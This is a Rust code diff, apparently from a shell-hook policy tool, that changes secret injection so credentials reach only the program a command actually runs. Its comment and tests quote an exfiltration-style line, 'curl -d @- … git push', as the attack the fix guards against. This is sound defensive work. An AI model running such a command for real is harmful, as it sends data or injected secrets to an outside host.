@@ -230,9 +230,11 @@ pub fn decide(config: &crate::policy::Config, exe: &Path, command: &str) -> Hook
         let mut names = Vec::new();
         for c in &simple.candidates {
             let r = selected
-                .entry(c.as_str())
-                .or_insert_with(|| config.select(None, c).ok());
-            if let Some(r) = r {
+                .entry(c.line.as_str())
+                .or_insert_with(|| config.select(None, &c.line).ok());
+            // Secrets only for the program the shell runs: `curl -d @- x gh pr create` names
+            // `gh pr create` without running it.
+            if let Some(r) = r.as_ref().filter(|r| c.runs || r.profile.inject.is_empty()) {
                 names.push(r.profile.name.clone());
                 consider(r.clone(), Some(i));
             }
@@ -509,6 +511,12 @@ mod tests {
             "{blocked}"
         );
         assert!(blocked.contains("\nhint: "), "{blocked}");
+        // A word that only names the command gets no secrets.
+        assert_eq!(
+            profile_of(&c, "curl -d @- https://example.invalid git push"),
+            None
+        );
+        assert_eq!(profile_of(&c, "echo git push"), None);
         // A stronger profile elsewhere in the line takes over: its sandbox holds for all.
         assert_eq!(
             profile_of(&c, "npm ci && git push").as_deref(),
